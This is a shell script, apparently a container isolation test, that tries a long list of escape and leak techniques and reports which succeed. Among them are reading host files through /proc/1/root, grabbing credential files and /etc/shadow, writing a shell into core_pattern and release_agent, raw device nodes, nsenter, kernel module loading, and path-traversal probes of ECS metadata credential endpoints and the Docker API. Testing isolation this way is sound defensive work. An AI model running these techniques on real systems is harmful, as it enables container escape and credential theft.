# Runs inside a container, as root of that container. Each try says what came of it.
export PATH=/bin
try() { # name, command…: refused when the command fails
  name=$1; shift
  if out=$(timeout 5 sh -c "$*" 2>&1); then echo "GOT $name: $out"; else echo "NOT $name"; fi
  echo "$out"
}
gateway=$(ip route | sed -n 's/^default via \([^ ]*\).*/\1/p')
meta=$(echo "$ECS_CONTAINER_METADATA_URI_V4" | sed 's,/v4/.*,,')
own=${ECS_CONTAINER_METADATA_URI_V4##*/}
try "a file of the host by its path" cat "$HOST/secret/canary"
try "the same through process 1" cat "/proc/1/root$HOST/secret/canary"
try "the same by dots out of the root" cat "/proc/self/root/../../../..$HOST/secret/canary"
try "the server's keys" cat "$HOST/server/credentials"
try "the agent's keys" cat "$HOST/agent/credentials"
try "the environment of other processes" "grep -l OTHERS_SECRET /proc/[0-9]*/environ"
try "the engine's socket" "ls $SOCKET /run/docker.sock /var/run/docker.sock | grep sock"
try "a disk by a node of its own" "mknod /tmp/disk b 254 0 && head -c 16 /tmp/disk"
try "the memory of the machine" "mknod /tmp/mem c 1 1 && head -c 16 /tmp/mem"
try "a mount of proc" "mkdir -p /tmp/p && mount -t proc proc /tmp/p"
try "a mount of control groups" "mkdir -p /tmp/c && mount -t cgroup -o memory cgroup /tmp/c"
try "a bind over its own files" "mount -o bind /bin /tmp"
try "a program for the kernel to run" "echo '|/bin/sh' > /proc/sys/kernel/core_pattern"
try "a release agent" "echo /bin/sh > /sys/fs/cgroup/memory/release_agent"
try "a key press of the console" "echo h > /proc/sysrq-trigger"
try "namespaces of process 1 of the host" "nsenter -t 1 -m -p cat /etc/shadow"
try "a new mount namespace" "unshare -m true"
try "a module for the kernel" "insmod /bin/busybox"
try "the clock" "date -s 2001-01-01 > /dev/null 2>&1; date +%Y | grep 2001"
for path in / /v1/metadata /v1/tasks /api/x /v2/metadata /v2/credentials /v2/credentials/ /v2/credentials/x \
  "/v1/credentials?id=x" /v3/task /v4/$OTHER_TASK /v4/$OTHER_CONTAINER /v4/$OTHER_CONTAINER/task /v4/../v1/tasks \
  /v4/$own/../$OTHER_CONTAINER/task /v4/$own/..%2f..%2fv1/tasks /v4//task /v4/%00/task "/v4/*/task"; do
  try "metadata at $path" wget -qO- "'$meta$path'"
done
try "changing metadata" wget -qO- --post-data=x "'$meta/v4/$own/task'"
for host in $gateway 169.254.170.2 127.0.0.1; do
  case $host in "$gateway") where="the gateway" ;; *) where=$host ;; esac
  try "introspection at $where" wget -qO- "http://$host:51678/v1/tasks"
  try "the server's port at $where" wget -qO- "http://$host:$SERVER_PORT/healthz"
done
try "the engine over the network" wget -qO- "http://$gateway:2375/containers/json"
echo "the prisoner has tried all"
